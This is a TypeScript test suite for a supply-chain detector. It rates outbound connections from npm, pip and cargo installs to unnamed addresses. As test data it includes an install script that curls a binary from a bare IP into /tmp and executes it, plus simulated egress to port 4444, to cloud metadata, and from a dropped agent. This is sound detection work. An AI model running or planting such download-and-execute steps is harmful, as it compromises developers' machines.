/**
 * Issue 24 item 2: egress to an address with no known name (auditd never records names). The
 * policy (rules/t1195.001/hardened/README.md) rates it by who made the connection and where it
 * goes; these tests pin each branch with the process shapes of real installs and payloads.
 */
import { describe, expect, it } from 'vitest';
import { Detector } from '../../src/alerts/detector.js';
import type { Alert } from '../../src/alerts/alert.js';
import { TunedDetector } from '../../src/alerts/tuned-detector.js';
import { Tuning } from '../../src/alerts/tuning.js';
import { parseConfig } from '../../src/config/index.js';
import { Enricher } from '../../src/enrich/enricher.js';
import { Chain, hardenedPack, type Proc } from './chain.js';

const HUNT = 'Install Subtree Connecting to an Address With No Known Name (hunting)';
const TOOL = "Install Script's Tool Connecting to an Address With No Known Name";
const PORT = 'Install Subtree Connecting to an Unnamed Address on a Non-Web Port or Cloud Metadata';
const NAMED = 'Network Connection From a Package Install Subtree to a Non-Registry Host';
const CORR = 'Install Script Then Shell Then Non-Registry Egress Within Two Minutes';
const DROPPED = 'Program Started From a Temporary Folder Inside a Package Install Subtree';

async function alerts(c: Chain, configYaml?: string): Promise<Array<[string, string]>> {
  const enricher = new Enricher();
  const packs = [await hardenedPack()];
  const detector = configYaml ? new TunedDetector(packs, new Tuning(parseConfig(configYaml, 'supplywatch.yaml'), Date.parse('2026-06-01'))) : new Detector(packs);
  const out: Alert[] = [];
  c.events.forEach((e, i) => {
    enricher.enrich(e);
    detector.detect(e, i + 1, out);
  });
  detector.finish(out);
  return out.map((a) => [a.rule.title, a.rule.level ?? '']);
}

/** `npm install` on Linux with one lifecycle script `sh -c SCRIPT` in node_modules/PKG. */
function npmInstall(script: string): { c: Chain; npm: Proc; sh: Proc } {
  const c = new Chain('build-1', 'linux');
  const bash = c.root('/usr/bin/bash', 'bash', '/home/dev/app');
  const npm = c.spawn(bash, '/usr/bin/node', 'node /usr/bin/npm install');
  const sh = c.spawn(npm, '/usr/bin/dash', `sh -c ${script}`, { cwd: '/home/dev/app/node_modules/pkg', dt: 2000 });
  return { c, npm, sh };
}

describe('unnamed egress from installs', () => {
  it('npm fetching tarballs from the CDN by bare IP is a hunting signal only', async () => {
    const { c, npm } = npmInstall('node install.js');
    c.connect(npm, '104.16.24.35', undefined, 100, 443);
    expect(await alerts(c)).toEqual([[HUNT, 'low']]);
  });

  it('prebuild-install and node-gyp (node below the lifecycle script) downloading over HTTPS stay low', async () => {
    const { c, sh } = npmInstall("'prebuild-install || node-gyp rebuild'");
    const prebuild = c.spawn(sh, '/usr/bin/node', 'node /home/dev/app/node_modules/.bin/prebuild-install');
    c.connect(prebuild, '140.82.121.4', undefined, 100, 443); // github.com
    c.connect(prebuild, '185.199.108.133', undefined, 100, 443); // release assets
    const gyp = c.spawn(sh, '/usr/bin/node', 'node /usr/lib/node_modules/npm/node_modules/node-gyp/bin/node-gyp.js rebuild');
    c.connect(gyp, '104.20.22.46', undefined, 100, 443); // nodejs.org headers
    const make = c.spawn(gyp, '/usr/bin/make', 'make BUILDTYPE=Release -C build');
    c.spawn(make, '/usr/bin/dash', 'sh -c g++ -o Release/obj.target/addon.o ../src/addon.cc');
    expect((await alerts(c)).filter(([, level]) => level !== 'low')).toEqual([]);
  });

  it('cargo fetching crates and pip fetching wheels are the package manager itself: low', async () => {
    const c = new Chain('build-2', 'linux');
    const bash = c.root('/usr/bin/bash', 'bash', '/home/dev/crate');
    const cargo = c.spawn(bash, '/home/dev/.cargo/bin/cargo', 'cargo build --release');
    c.connect(cargo, '18.154.227.71', undefined, 100, 443);
    const pip = c.spawn(bash, '/usr/bin/python3.12', '/usr/bin/python3 /usr/bin/pip install requests');
    c.connect(pip, '151.101.0.223', undefined, 100, 443);
    expect(await alerts(c)).toEqual([[HUNT, 'low'], [HUNT, 'low']]);
  });

  it('a tool the install script started (curl, a dropped binary) talking to a bare IP is high', async () => {
    const { c, sh } = npmInstall("'curl -s -o /tmp/x http://159.148.186.228/download/jsextension; /tmp/x'");
    const curl = c.spawn(sh, '/usr/bin/curl', 'curl -s -o /tmp/x http://159.148.186.228/download/jsextension');
    c.connect(curl, '159.148.186.228', undefined, 100, 80);
    const dropped = c.spawn(sh, '/tmp/x', '/tmp/x');
    c.connect(dropped, '203.0.113.50', undefined, 100, 443);
    const got = await alerts(c);
    expect(got.filter(([t]) => t === TOOL)).toEqual([[TOOL, 'high'], [TOOL, 'high']]);
    expect(got.some(([t]) => t === HUNT)).toBe(false);
  });

  it('the same curl run by the package manager itself is not below a script: not the tool rule', async () => {
    const c = new Chain('build-3', 'linux');
    const bash = c.root('/usr/bin/bash', 'bash', '/home/dev/app');
    const npm = c.spawn(bash, '/usr/bin/node', 'node /usr/bin/npm install');
    const git = c.spawn(npm, '/usr/bin/git', 'git ls-remote https://github.com/user/dep.git');
    const remote = c.spawn(git, '/usr/lib/git-core/git-remote-https', 'git-remote-https origin https://github.com/user/dep.git');
    c.connect(remote, '140.82.121.3', undefined, 100, 443);
    expect(await alerts(c)).toEqual([[HUNT, 'low']]);
  });

  it('any install process on a non-web port or to cloud metadata is medium; a private proxy port stays low', async () => {
    const { c, npm, sh } = npmInstall('node index.js');
    const node = c.spawn(sh, '/usr/bin/node', 'node index.js');
    c.connect(node, '198.51.100.9', undefined, 100, 4444);
    c.connect(npm, '169.254.169.254', undefined, 100, 80);
    c.connect(npm, '10.40.0.8', undefined, 100, 3128);
    expect(await alerts(c)).toEqual([[PORT, 'medium'], [PORT, 'medium'], [HUNT, 'low']]);
  });

  it('a mirror or proxy declared by address (IP or CIDR) silences every level', async () => {
    const { c, npm, sh } = npmInstall('node index.js');
    const node = c.spawn(sh, '/usr/bin/node', 'node index.js');
    c.connect(npm, '198.51.100.40', undefined, 100, 8081);
    c.connect(node, '203.0.113.9', undefined, 100, 443);
    expect(await alerts(c)).toEqual([[PORT, 'medium'], [HUNT, 'low']]);
    expect(await alerts(c, 'registries:\n  allowed_hosts:\n    - 198.51.100.40\n    - 203.0.113.0/24\n')).toEqual([]);
  });

  it('a name seen earlier for the address in the same trace decides instead: the named rule judges it', async () => {
    const { c, sh } = npmInstall('node index.js');
    const node = c.spawn(sh, '/usr/bin/node', 'node index.js');
    c.resolve(node, 'pastebin.com', '104.20.208.21');
    c.connect(node, '104.20.208.21', undefined, 100, 443);
    const got = await alerts(c);
    expect(got).toContainEqual([NAMED, 'high']);
    expect(got.some(([t]) => t === HUNT)).toBe(false);
  });

  it('a shell below the script, then unnamed egress from a tool it started, completes the correlation', async () => {
    const { c, sh } = npmInstall('node setup.js');
    const node = c.spawn(sh, '/usr/bin/node', 'node setup.js');
    const sh2 = c.spawn(node, '/usr/bin/dash', 'sh -c /tmp/.cache/agent');
    const agent = c.spawn(sh2, '/tmp/.cache/agent', '/tmp/.cache/agent');
    c.connect(agent, '203.0.113.77', undefined, 100, 443);
    expect((await alerts(c)).map(([t]) => t)).toEqual([DROPPED, TOOL, CORR]);
  });

  it("the runtime's own HTTPS after a shell does not complete the correlation (husky, node-gyp)", async () => {
    const { c, sh } = npmInstall('husky');
    const node = c.spawn(sh, '/usr/bin/node', 'node /home/dev/app/node_modules/.bin/husky');
    c.spawn(node, '/usr/bin/dash', 'sh -c git config core.hooksPath .husky/_');
    c.connect(node, '140.82.121.4', undefined, 100, 443);
    expect(await alerts(c)).toEqual([[HUNT, 'low']]);
  });
});
